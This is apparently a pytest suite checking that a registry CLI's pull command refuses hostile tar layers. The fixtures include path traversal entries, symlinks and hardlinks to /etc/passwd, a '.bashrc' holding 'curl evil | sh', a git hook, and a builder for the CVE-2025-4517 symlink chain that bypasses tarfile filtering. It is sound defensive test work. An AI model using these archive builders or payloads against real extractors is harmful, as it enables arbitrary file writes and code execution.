"""``dockyard pull`` against a registry serving hostile artifacts: nothing lands outside ``<out>/<title>/``.

Each hostile layer is built here, pushed with the SDK to a real ``dockyard serve`` (the server stores what
it is given) and pulled with the CLI. A refused pull exits non-zero with one line on stderr and leaves the
output directory as it was (no half-extracted tree, no temporary directory).
"""

from __future__ import annotations

import io
import json
import os
import stat
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from dockyard import ContainerRegistryClient
from dockyard.oci import compute_digest
from dockyard.oci import mediatypes as mt
from dockyard.oci.manifest import EMPTY_JSON as EMPTY_CONFIG
from dockyard.oci.manifest import Descriptor
from dockyard.workflows.artifacts import build_manifest
from tests.cli.conftest import Cli
from tests.conftest import unique
from tests.support.servers import DockyardServer

TITLE = "org.opencontainers.image.title"


@dataclass
class Entry:
    """One tar member: a file (``data``), a directory, a link (``link``) or another ``kind``."""

    name: str
    kind: bytes = tarfile.REGTYPE
    data: bytes = b""
    link: str = ""
    mode: int = 0o644


def file_(name: str, data: bytes = b"x\n", mode: int = 0o644) -> Entry:
    return Entry(name, tarfile.REGTYPE, data, mode=mode)


def dir_(name: str) -> Entry:
    return Entry(name, tarfile.DIRTYPE, mode=0o755)


def symlink(name: str, target: str) -> Entry:
    return Entry(name, tarfile.SYMTYPE, link=target)


def hardlink(name: str, target: str) -> Entry:
    return Entry(name, tarfile.LNKTYPE, link=target)


def tar_gz(entries: list[Entry]) -> bytes:
    """A tar+gzip archive holding exactly ``entries`` (no checks: what a hostile registry would serve)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.type = entry.kind
            info.linkname = entry.link
            info.mode = entry.mode
            if entry.kind == tarfile.REGTYPE:
                info.size = len(entry.data)
                tar.addfile(info, io.BytesIO(entry.data))
            else:
                if entry.kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
                    info.devmajor, info.devminor = 1, 3
                tar.addfile(info)
    return buf.getvalue()


def push_artifact(server: DockyardServer, layers: list[tuple[str, bytes, bool]]) -> str:
    """Push an artifact whose layers are ``(title, bytes, is_directory)``; returns ``repo:v1``."""
    repository = unique("hostile")
    descriptors = []
    with ContainerRegistryClient(server.url, None) as client:
        client.upload_blob(repository, EMPTY_CONFIG, digest=compute_digest(EMPTY_CONFIG), size=len(EMPTY_CONFIG))
        for title, data, directory in layers:
            digest = compute_digest(data)
            client.upload_blob(repository, data, digest=digest, size=len(data))
            annotations = {TITLE: title}
            if directory:
                annotations["io.deis.oras.content.unpack"] = "true"
            media_type = mt.OCI_LAYER_GZIP if directory else mt.OCI_LAYER
            descriptors.append(Descriptor(media_type, digest, len(data), annotations=annotations))
        client.set_manifest(repository, build_manifest(descriptors), tag="v1", media_type=mt.OCI_MANIFEST)
    return f"{repository}:v1"


def listing(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) if root.exists() else []


def pull(cli: Cli, server: DockyardServer, ref: str, out: Path, *extra: str):  # type: ignore[no-untyped-def]
    return cli("pull", "-r", server.host, ref, "--dir", str(out), *extra)


def cve_2025_4517_chain(dest: Path, prefix: str) -> list[Entry]:
    """The symlink chain of CVE-2025-4517: links whose expansion passes PATH_MAX, so ``os.path.realpath`` (and
    with it tarfile's ``data`` filter on unpatched CPython) stops resolving and misjudges where ``escape`` points.
    ``escape`` resolves to ``dest/..``; the last entry writes through it."""
    steps = "abcdefghijklmnop"
    max_path = os.pathconf(dest, "PC_PATH_MAX")
    component = "d" * ((max_path - len(str(dest)) - len(prefix) - 2) // (len(steps) + 1))
    entries = [dir_(prefix)]
    path = prefix
    for step in steps:
        entries += [dir_(f"{path}/{component}"), symlink(f"{path}/{step}", component)]
        path = f"{path}/{component}"
    linkpath = "/".join([*steps, "l" * 254])
    entries.append(symlink(f"{prefix}/{linkpath}", "/".join([".."] * len(steps))))
    entries.append(symlink(f"{prefix}/escape", f"{linkpath}/../.."))
    entries.append(file_(f"{prefix}/escape/pwned.txt", b"pwned\n"))
    return entries


HOSTILE = {
    "dot-dot": [dir_("site"), file_("site/ok.txt"), file_("site/../../escaped.txt")],
    "absolute": [dir_("site"), file_("site/ok.txt"), file_("/tmp/dockyard-escaped-absolute.txt")],
    "outside-title-bashrc": [dir_("site"), file_("site/ok.txt"), file_(".bashrc", b"curl evil | sh\n")],
    "outside-title-git-hook": [file_("site/ok.txt"), file_(".git/hooks/pre-commit", b"#!/bin/sh\n", 0o755)],
    "symlink-absolute": [file_("site/ok.txt"), symlink("site/passwd", "/etc/passwd")],
    "symlink-up": [file_("site/ok.txt"), symlink("site/up", "../../escaped.txt")],
    "symlink-then-write-through": [symlink("site/sub", "."), symlink("site/out", "sub/sub/../.."),
                                   file_("site/out/escaped.txt")],
    "symlink-chain": [dir_("site/x"), symlink("site/x/s", "."), symlink("site/e", "x/s/s/s/../../.."),
                      file_("site/ok.txt")],
    "write-through-link": [symlink("site/link", "../.."), file_("site/link/escaped.txt")],
    "hardlink-outside": [file_("site/ok.txt"), hardlink("site/h", "/etc/passwd")],
    "hardlink-up": [file_("site/ok.txt"), hardlink("site/h", "site/../../escaped.txt")],
    "hardlink-to-link": [symlink("site/l", "ok.txt"), file_("site/ok.txt"), hardlink("site/h", "site/l")],
    "char-device": [file_("site/ok.txt"), Entry("site/null", tarfile.CHRTYPE)],
    "block-device": [file_("site/ok.txt"), Entry("site/disk", tarfile.BLKTYPE)],
    "fifo": [file_("site/ok.txt"), Entry("site/pipe", tarfile.FIFOTYPE)],
    "not-a-tar": None,
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_directory_layer_is_refused_and_leaves_nothing(
    cli: Cli, dockyard_server: DockyardServer, tmp_path: Path, case: str
) -> None:
    entries = HOSTILE[case]
    data = tar_gz(entries) if entries is not None else b"\x1f\x8b not really gzip"
    ref = push_artifact(dockyard_server, [("site", data, True)])
    out = tmp_path / "area" / "out"
    out.mkdir(parents=True)
    (out / "keep.txt").write_text("mine\n")
    pull(cli, dockyard_server, ref, out).failed()
    assert listing(out) == ["keep.txt"]
    assert listing(tmp_path / "area") == ["out", "out/keep.txt"]
    assert not Path("/tmp/dockyard-escaped-absolute.txt").exists()


def test_cve_2025_4517_symlink_chain_is_refused(cli: Cli, dockyard_server: DockyardServer, tmp_path: Path) -> None:
    """The realpath-limit chain that bypasses ``extractall(filter="data")`` on unpatched CPython."""
    out = tmp_path / "area" / "out"
    out.mkdir(parents=True)
    ref = push_artifact(dockyard_server, [("site", tar_gz(cve_2025_4517_chain(out.resolve(), "site")), True)])
    pull(cli, dockyard_server, ref, out).failed()
    assert listing(tmp_path / "area") == ["out"]


def test_modes_are_masked_and_inside_links_kept(cli: Cli, dockyard_server: DockyardServer, tmp_path: Path) -> None:
    """setuid/setgid/sticky and group/other write are dropped; links that stay inside the layer work."""
    entries = [
        Entry("site", tarfile.DIRTYPE, mode=0o1777),
        file_("site/tool", b"#!/bin/sh\necho hi\n", 0o6777),
        file_("site/data.txt", b"data\n", 0o666),
        dir_("site/v1"),
        file_("site/v1/file.txt", b"v1\n"),
        symlink("site/latest", "v1"),
        symlink("site/v1/self", "../v1/file.txt"),
        hardlink("site/copy.txt", "site/data.txt"),
    ]
    ref = push_artifact(dockyard_server, [("site", tar_gz(entries), True)])
    out = tmp_path / "out"
    pulled = pull(cli, dockyard_server, ref, out, "-o", "json").ok().json()
    site = out / "site"
    assert pulled["files"] == [str(site)]
    assert stat.S_IMODE(os.stat(site / "tool").st_mode) == 0o755
    assert stat.S_IMODE(os.stat(site / "data.txt").st_mode) == 0o644
    assert stat.S_IMODE(os.stat(site).st_mode) == 0o755
    assert os.readlink(site / "latest") == "v1" and (site / "latest" / "file.txt").read_bytes() == b"v1\n"
    assert (site / "v1" / "self").read_bytes() == b"v1\n"
    assert (site / "copy.txt").read_bytes() == b"data\n" and not (site / "copy.txt").is_symlink()
    assert os.stat(site / "copy.txt").st_ino != os.stat(site / "data.txt").st_ino


@pytest.mark.parametrize("title", [".", "..", "/etc/cron.d", "a/b", "..\\x"])
def test_unsafe_titles_are_refused(cli: Cli, dockyard_server: DockyardServer, tmp_path: Path, title: str) -> None:
    ref = push_artifact(dockyard_server, [(title, b"payload\n", False)])
    out = tmp_path / "area" / "out"
    result = pull(cli, dockyard_server, ref, out).failed()
    assert "file name" in result.stderr
    assert listing(tmp_path / "area") == []


@pytest.mark.parametrize("directory", [True, False])
def test_existing_name_is_refused_unless_force(
    cli: Cli, dockyard_server: DockyardServer, tmp_path: Path, directory: bool
) -> None:
    data = tar_gz([dir_("site"), file_("site/index.html", b"new\n")]) if directory else b"new\n"
    ref = push_artifact(dockyard_server, [("site", data, directory)])
    out = tmp_path / "out"
    (out / "site").mkdir(parents=True)
    (out / "site" / "index.html").write_text("old\n")
    result = pull(cli, dockyard_server, ref, out).failed()
    assert "--force" in result.stderr
    assert (out / "site" / "index.html").read_text() == "old\n" and listing(out) == ["site", "site/index.html"]
    pull(cli, dockyard_server, ref, out, "--force").ok()
    if directory:
        assert listing(out) == ["site", "site/index.html"]
        assert (out / "site" / "index.html").read_text() == "new\n"
    else:
        assert listing(out) == ["site"] and (out / "site").read_text() == "new\n"


def test_two_layers_with_one_title_are_refused(cli: Cli, dockyard_server: DockyardServer, tmp_path: Path) -> None:
    ref = push_artifact(dockyard_server, [("notes.txt", b"a\n", False), ("notes.txt", b"b\n", False)])
    pull(cli, dockyard_server, ref, tmp_path / "area" / "out").failed()
    assert listing(tmp_path / "area") == []


def test_manifest_json_is_valid(dockyard_server: DockyardServer) -> None:
    """The helper above pushes what ORAS would: the directory layer carries the unpack annotation."""
    ref = push_artifact(dockyard_server, [("site", tar_gz([dir_("site")]), True)])
    repository, tag = ref.split(":")
    with ContainerRegistryClient(dockyard_server.url, None) as client:
        manifest = json.loads(client.get_manifest(repository, tag).content)
    assert manifest["layers"][0]["annotations"]["io.deis.oras.content.unpack"] == "true"


def test_unpacked_size_is_bounded(cli: Cli, dockyard_server: DockyardServer, tmp_path: Path) -> None:
    """A small layer that inflates (here 8 MiB of zeros, a few KiB packed) stops at --max-unpacked-size."""
    zeros = b"\0" * (8 * 1024 * 1024)
    data = tar_gz([dir_("site"), file_("site/a.bin", zeros), hardlink("site/b.bin", "site/a.bin")])
    assert len(data) < 64 * 1024
    ref = push_artifact(dockyard_server, [("site", data, True)])
    out = tmp_path / "area" / "out"
    result = pull(cli, dockyard_server, ref, out, "--max-unpacked-size", "12M").failed()
    assert "--max-unpacked-size" in result.stderr
    assert listing(tmp_path / "area") == ["out"]
    pull(cli, dockyard_server, ref, out, "--max-unpacked-size", "1x").failed(2)
    pull(cli, dockyard_server, ref, out, "--max-unpacked-size", "16M").ok()
    assert (out / "site" / "b.bin").stat().st_size == len(zeros)
